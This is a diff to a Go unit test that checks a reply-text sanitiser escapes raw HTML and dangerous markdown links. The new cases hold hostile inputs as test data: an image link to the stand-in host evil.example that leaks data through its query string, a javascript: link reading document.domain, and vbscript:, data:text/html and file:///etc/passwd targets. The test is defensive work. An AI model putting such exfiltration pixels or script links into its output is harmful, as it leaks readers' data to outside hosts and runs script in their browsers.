@@ -27,6 +27,12 @@ func TestReplyTextEscapesRawHTML(t *testing.T) {
 		{"`<b>`` <i>", "`&lt;b>`` &lt;i>"}, // a run of two does not close a run of one
 		{"``a ` <b> ``", "``a ` <b> ``"},
 		{"```\n<b>\n   ```\n<i>", "```\n<b>\n   ```\n&lt;i>"}, // a closing fence may be indented
+		// A reviewer's export kept the agent's tracking pixel and a javascript: link live.
+		{"![logo](https://evil.example/pixel.png?party=leak) and [docs](javascript:alert(document.domain))",
+			"!\\[logo](https://evil.example/pixel.png?party=leak) and [docs]\\(javascript:alert(document.domain))"},
+		{"[a](JavaScript:x) [b]( <vbscript:y>) [c](data:text/html,z) [d](file:///etc/passwd) [e](https://ok.test)",
+			"[a]\\(JavaScript:x) [b]\\( &lt;vbscript:y>) [c]\\(data:text/html,z) [d]\\(file:///etc/passwd) [e](https://ok.test)"},
+		{"code keeps it: `![x](y)`\n```\n![x](y)\n```", "code keeps it: `![x](y)`\n```\n![x](y)\n```"},
 	}
 	for _, c := range cases {
 		if got := replyText(c.in); got != c.want {
